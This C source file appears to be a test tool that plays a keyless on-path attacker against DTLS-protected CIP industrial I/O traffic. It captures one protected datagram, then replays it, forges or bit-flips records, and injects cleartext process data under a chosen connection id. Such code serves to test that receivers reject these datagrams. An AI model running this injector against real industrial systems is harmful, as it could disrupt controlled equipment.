// SPDX-License-Identifier: GPL-2.0-only
/*
 * Somebody on the wire who has no keys: takes a protected datagram and sends it
 * again, changes it, or sends process data in clear.
 */
#include <arpa/inet.h>
#include <getopt.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wire.h"

#define PORT_IO		2222
/* Forged records need numbers that the receiver has not seen. */
#define NUMBER_AHEAD	(1 << 20)

/**
 * struct attack - the means
 * @fd: packet socket
 * @frame: the frame that was caught
 * @len: its length
 * @udp: the datagram in it
 * @id: connection id for clear I/O; 0 for one that nobody has bound
 * @serial: of the datagrams sent, so that each forged one has its own number
 */
struct attack {
	int fd;
	uint8_t frame[WIRE_FRAME_MAX];
	size_t len;
	struct wire_udp udp;
	uint32_t id;
	uint32_t serial;
};

typedef size_t (*make_fn)(struct attack *atk, uint8_t *frame);

/* The copy of the caught datagram in the frame to be sent. */
static struct wire_udp copy_udp(const struct attack *atk, uint8_t *frame)
{
	struct wire_udp udp = atk->udp;

	memcpy(frame, atk->frame, atk->len);
	udp.data = frame + (atk->udp.data - atk->frame);
	return udp;
}

static size_t make_replay(struct attack *atk, uint8_t *frame)
{
	struct wire_udp udp = copy_udp(atk, frame);

	return wire_udp_rewrite(frame, &udp);
}

static size_t make_forged(struct attack *atk, uint8_t *frame)
{
	struct wire_udp udp = copy_udp(atk, frame);
	struct dtls_header *head = (void *)udp.data;
	size_t i;

	wire_set_number(head, wire_number(head) + NUMBER_AHEAD + atk->serial);
	for (i = sizeof(*head); i < udp.len; i++)
		udp.data[i] = (uint8_t)rand();
	return wire_udp_rewrite(frame, &udp);
}

static size_t make_tag(struct attack *atk, uint8_t *frame)
{
	struct wire_udp udp = copy_udp(atk, frame);
	struct dtls_header *head = (void *)udp.data;

	wire_set_number(head, wire_number(head) + NUMBER_AHEAD + atk->serial);
	udp.data[udp.len - 1] ^= 1;
	return wire_udp_rewrite(frame, &udp);
}

static size_t make_flip(struct attack *atk, uint8_t *frame)
{
	struct wire_udp udp = copy_udp(atk, frame);
	struct dtls_header *head = (void *)udp.data;
	size_t bits = (udp.len - sizeof(*head)) * 8;
	size_t bit = atk->serial % bits;

	wire_set_number(head, wire_number(head) + NUMBER_AHEAD + atk->serial);
	udp.data[sizeof(*head) + bit / 8] ^= (uint8_t)(1 << bit % 8);
	return wire_udp_rewrite(frame, &udp);
}

static size_t make_clear(struct attack *atk, uint8_t *frame, uint32_t id)
{
	struct wire_udp udp = copy_udp(atk, frame);
	uint8_t *p = udp.data;

	/* CIP Vol 2, 2-6: sequenced address item, connected data item */
	memcpy(p, "\x02\x00\x02\x80\x08\x00", 6);
	memcpy(p + 6, &(uint32_t){ htole32(id) }, 4);
	memcpy(p + 10, &(uint32_t){ htole32(0x7fffffff) }, 4);
	memcpy(p + 14, "\xb1\x00\x22\x00", 4);
	memset(p + 18, 0xee, 34);
	udp.len = 18 + 34;
	udp.sport = PORT_IO;
	udp.dport = PORT_IO;
	return wire_udp_rewrite(frame, &udp);
}

static size_t make_plain(struct attack *atk, uint8_t *frame)
{
	return make_clear(atk, frame, 0xfeedbeef);
}

static size_t make_bound(struct attack *atk, uint8_t *frame)
{
	return make_clear(atk, frame, atk->id);
}

static const struct mode {
	const char *name;
	make_fn make;
	const char *about;
} modes[] = {
	{ "replay", make_replay, "the caught record again, as it was" },
	{ "forged", make_forged, "a new record number, random bytes" },
	{ "tag", make_tag, "a new record number, one bit of the tag changed" },
	{ "flip", make_flip, "a new record number, one bit changed, each place in turn" },
	{ "plain", make_plain, "process data in clear, with an id that nobody bound" },
	{ "bound", make_bound, "process data in clear, with the id given by --id" },
};

#define MODES (sizeof(modes) / sizeof(modes[0]))

static const struct option options[] = {
	{ "interface",	required_argument, NULL, 'i' },
	{ "to",		required_argument, NULL, 't' },
	{ "mode",	required_argument, NULL, 'm' },
	{ "count",	required_argument, NULL, 'c' },
	{ "id",		required_argument, NULL, 'I' },
	{ "wait",	required_argument, NULL, 'w' },
	{ "gap",	required_argument, NULL, 'g' },
	{ "help",	no_argument,	   NULL, 'h' },
	{ }
};

static void usage(void)
{
	size_t i;

	fputs("usage: attack --interface NAME --to ADDR --mode MODE [--mode MODE]... [OPTION]...\n\n"
	      "Catch one protected datagram on its way to ADDR, and send on the same interface,\n"
	      "to the same host, what a third party can make of it. NAME must be the interface\n"
	      "that leads to ADDR.\n\n"
	      "Modes:\n", stdout);
	for (i = 0; i < MODES; i++)
		printf("  %-8s %s\n", modes[i].name, modes[i].about);
	fputs("\nOptions:\n"
	      "  --count N       datagrams of each mode (100)\n"
	      "  --gap MICROSEC  between two of them (1000)\n"
	      "  --id ID         connection id for mode bound\n"
	      "  --wait SECONDS  for a protected datagram to catch (10)\n"
	      "  --help          this\n\n"
	      "Prints one line of JSON: caught (epoch, number, bytes), and sent by mode.\n"
	      "Exit status: 0 all were sent, 1 nothing caught or not sent, 2 wrong usage.\n",
	      stdout);
}

/* Wait for an application data record under keys on its way to the victim. */
static bool catch_one(struct attack *atk, uint32_t victim, int seconds)
{
	struct pollfd pfd = { .fd = atk->fd, .events = POLLIN };
	time_t end = time(NULL) + seconds;
	const struct dtls_header *head;
	ssize_t len;

	while (time(NULL) <= end) {
		poll(&pfd, 1, 200);
		while ((len = wire_receive(atk->fd, atk->frame)) > 0) {
			if (!wire_udp_parse(&atk->udp, atk->frame,
					    (size_t)len) ||
			    atk->udp.daddr != victim)
				continue;

			head = wire_record(atk->udp.data, atk->udp.len);
			if (!head || head->type != DTLS_APPLICATION ||
			    !wire_epoch(head))
				continue;

			atk->len = (size_t)len;
			return true;
		}
	}
	return false;
}

static const struct mode *find_mode(const char *name)
{
	size_t i;

	for (i = 0; i < MODES; i++)
		if (!strcmp(modes[i].name, name))
			return &modes[i];
	return NULL;
}

static int run(struct attack *atk, const struct mode *const *wanted,
	       size_t count, useconds_t gap)
{
	const struct dtls_header *head = (const void *)atk->udp.data;
	static uint8_t frame[WIRE_FRAME_MAX];
	const char *comma = "";
	int status = 0;

	printf("{\"program\": \"attack\", \"caught\": {\"epoch\": %u, "
	       "\"number\": %llu, \"bytes\": %zu}, \"sent\": {",
	       wire_epoch(head), (unsigned long long)wire_number(head),
	       atk->udp.len);

	for (; *wanted; wanted++) {
		size_t sent = 0, i;

		for (i = 0; i < count; i++) {
			size_t len = (*wanted)->make(atk, frame);

			if (send(atk->fd, frame, len, 0) == (ssize_t)len)
				sent++;
			atk->serial++;
			usleep(gap);
		}
		if (sent != count)
			status = 1;
		printf("%s\"%s\": %zu", comma, (*wanted)->name, sent);
		comma = ", ";
	}
	printf("}}\n");
	return status;
}

int main(int argc, char **argv)
{
	const struct mode *wanted[MODES + 1] = { };
	const char *interface = NULL;
	struct in_addr victim = { };
	static struct attack atk;
	size_t n = 0, count = 100;
	useconds_t gap = 1000;
	int opt, wait = 10;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (opt) {
		case 'i':
			interface = optarg;
			break;
		case 't':
			if (inet_pton(AF_INET, optarg, &victim) != 1) {
				fprintf(stderr, "attack: --to: `%s' is no IPv4 address\n",
					optarg);
				return 2;
			}
			break;
		case 'm':
			if (n < MODES)
				wanted[n] = find_mode(optarg);
			if (n == MODES || !wanted[n++]) {
				fprintf(stderr, "attack: --mode: `%s' is not known; see --help\n",
					optarg);
				return 2;
			}
			break;
		case 'c':
			count = strtoul(optarg, NULL, 0);
			break;
		case 'g':
			gap = (useconds_t)strtoul(optarg, NULL, 0);
			break;
		case 'I':
			atk.id = (uint32_t)strtoul(optarg, NULL, 0);
			break;
		case 'w':
			wait = (int)strtol(optarg, NULL, 10);
			break;
		case 'h':
			usage();
			return 0;
		default:
			return 2;
		}
	}

	if (!interface || !victim.s_addr || !n || optind != argc) {
		fputs("attack: --interface, --to and --mode are needed; see --help\n",
		      stderr);
		return 2;
	}

	atk.fd = wire_open(interface);
	if (atk.fd < 0) {
		fprintf(stderr, "attack: %s: %s\n", interface,
			strerror(-atk.fd));
		return 2;
	}

	if (!catch_one(&atk, victim.s_addr, wait)) {
		fputs("attack: no protected datagram came by\n", stderr);
		return 1;
	}
	return run(&atk, wanted, count, gap);
}
